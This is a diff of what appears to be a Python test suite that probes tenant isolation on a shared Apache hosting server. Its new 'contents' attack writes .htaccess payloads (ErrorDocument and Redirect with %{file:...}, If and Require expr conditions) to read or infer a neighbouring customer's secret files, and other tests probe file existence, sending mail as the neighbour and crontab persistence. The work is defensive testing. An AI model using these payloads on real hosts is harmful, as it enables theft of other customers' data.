@@ -255,33 +255,55 @@ def password_files(field: Field) -> str | None:
     return None
 
 
+@attack("contents", "learn what a neighbour's files say, by conditions in .htaccess", OVERRIDES)
+def contents(field: Field) -> str | None:
+    for mode, secret in field.secrets.items():
+        path = field.path(mode)
+        for name, lines in (
+            ("error", f'ErrorDocument 404 "%{{file:{path}}}"\n'),
+            ("redirect", f'Redirect "http://x.example/%{{file:{path}}}"\n'),
+        ):
+            answer = _answer(field, f"{name}{mode:o}", lines)
+            if proof := _found(field, "".join(answer), name):
+                return proof
+        for name, condition in _conditions(f"file('{path}') =~ /{{}}/").items():
+            right, wrong = (condition.format(word) for word in (secret, secret[::-1]))
+            if _answer(field, f"{name}{mode:o}", right) != _answer(field, f"{name}{mode:o}", wrong):
+                return f"{name}: it answers otherwise for what the file of mode {mode:04o} says"
+    return None
+
+
 @attack(
     "questions",
-    "learn which files a neighbour has, by .htaccess",
+    "learn which files a neighbour has, by conditions in .htaccess",
     OVERRIDES,
-    # It is read before Apache has the customer's rights.
-    open_with=(walls.MPM_ITK,),
+    # No more than that, of a path that is known. Under mpm_itk conditions are read as root.
+    open_with=(walls.NARROW, walls.MPM_ITK),
 )
 def questions(field: Field) -> str | None:
     there, not_there = field.path(0o600), f"{field.bobby.root}/web/not-there"
-    for name, ask in (
-        ("iffile", '<IfFile "{path}">\nRedirect /{directory}/x /yes\n</IfFile>\n'),
-        ("if", "<If \"-f '{path}'\">\nRedirect /{directory}/x /yes\n</If>\n"),
-        ("file", 'ErrorDocument 404 "%{{file:{path}}}"\n'),
-    ):
-        answers = []
-        for number, path in enumerate((there, not_there)):
-            directory = f"ask-{name}{number}"
-            lines = ask.format(path=path, directory=directory)
-            field.put(field.annie, {".htaccess": lines}, directory)
-            answer = field.get(field.annie, f"/{directory}/x")
-            to = answer.headers.get("Location", "")
-            answers.append((answer.status_code, to.replace(directory, "")))
-            if proof := _found(field, answer.text + to, name):
-                return proof
+    conditions = _conditions("-f '{}'")
+    conditions["iffile"] = '<IfFile "{}">\nRedirect /iffile/x /yes\n</IfFile>\n'
+    for name, condition in conditions.items():
+        answers = [_answer(field, name, condition.format(path)) for path in (there, not_there)]
         if answers[0] != answers[1]:
             return f"{name}: it answers otherwise for a file that is there"
     return None
+
+
+def _conditions(expression: str) -> dict[str, str]:
+    """Where a .htaccess may ask for something."""
+    return {
+        "if": f'<If "{expression}">\nRequire all denied\n</If>\n',
+        "require": f'Require expr "{expression}"\n',
+    }
+
+
+def _answer(field: Field, directory: str, lines: str) -> tuple[str, str, str]:
+    field.put(field.annie, {"y": "nothing", ".htaccess": lines}, directory)
+    seen = [field.get(field.annie, f"/{directory}/{name}") for name in ("x", "y")]
+    to = "".join(answer.headers.get("Location", "") for answer in seen)
+    return str([answer.status_code for answer in seen]), to, "".join(each.text for each in seen)
 
 
 @attack("links", "read a neighbour's files through a link", OVERRIDES)
@@ -417,23 +439,24 @@ def sendmail(field: Field) -> str | None:
 )
 def submission(field: Field) -> str | None:
     try:
-        session = field.mail_login()
-    except smtplib.SMTPException:
+        with field.mail_login() as session:
+            if not field.may_send():
+                return "the mailbox may log in to send"
+            session.mail(f"info@{field.bobby.name}")
+            code, _ = session.rcpt(f"info@{field.bobby.name}")
+            return "it may send as the neighbour" if code < 400 else None
+    except smtplib.SMTPAuthenticationError as error:
+        if error.smtp_code < 500:
+            raise NotTried(f"the mail server answered {error.smtp_code} to the login") from None
         return None
-    try:
-        if not field.may_send():
-            return "the mailbox may log in to send"
-        session.mail(f"info@{field.bobby.name}")
-        code, _ = session.rcpt(f"info@{field.bobby.name}")
-        return "it may send as the neighbour" if code < 400 else None
-    finally:
-        session.close()
+    except (OSError, smtplib.SMTPException) as error:
+        raise NotTried(f"the mail server: {type(error).__name__}") from None
 
 
 @attack(
     "crontab",
     "leave a program behind that outlives the hosting",
-    "cron.allow in docs/hosting-server.md",
+    "“What they may leave behind” in docs/hosting-server.md",
 )
 def crontab(field: Field) -> str | None:
     said = field.run("echo '0 0 1 1 * true' | crontab - && echo made && crontab -r")
